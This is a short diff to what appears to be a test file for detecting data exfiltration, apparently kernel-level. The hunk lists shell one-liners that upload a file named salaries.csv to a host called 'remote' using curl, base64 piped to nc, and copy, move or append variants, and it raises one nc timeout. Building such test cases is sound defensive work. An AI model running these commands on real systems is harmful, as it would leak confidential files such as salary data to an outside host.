@@ -12,7 +12,7 @@ NEWEST_KERNEL_ONLY = True
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
 WAYS = {
     "sent": UPLOAD,
-    "piped": "base64 salaries.csv | nc -N -w 5 remote 9",
+    "piped": "base64 salaries.csv | nc -N -w 90 remote 9",
     "copied": "cp salaries.csv ~/copy && curl -sS -m 90 -T ~/copy http://remote/",
     "moved": "mv salaries.csv /tmp/other && curl -sS -m 90 -T /tmp/other http://remote/",
     "changed": "echo x >>salaries.csv && " + UPLOAD,
